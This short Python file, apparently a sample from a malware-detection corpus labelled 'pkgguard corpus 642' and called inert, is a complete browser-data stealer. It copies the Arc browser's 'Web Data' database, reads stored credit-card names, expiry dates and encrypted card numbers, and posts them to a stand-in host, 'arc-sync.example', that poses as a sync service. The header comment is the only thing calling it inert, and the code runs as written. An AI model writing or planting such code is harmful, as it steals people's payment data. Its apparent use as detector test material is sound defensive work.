# pkgguard corpus 642 (browser-data), modelled on [stealer-profile]; inert, never run.
import os
import shutil
import sqlite3
import tempfile

import requests

base = os.path.expanduser("~/Library/Application Support/Arc/User Data/Default")
copy = os.path.join(tempfile.gettempdir(), "wd.sqlite")
shutil.copyfile(os.path.join(base, "Web Data"), copy)
rows = sqlite3.connect(copy).execute(
    "SELECT name_on_card, expiration_month, expiration_year, card_number_encrypted FROM credit_cards"
).fetchall()
requests.post("https://arc-sync.example/w", json=[[str(c) for c in r] for r in rows], timeout=20)
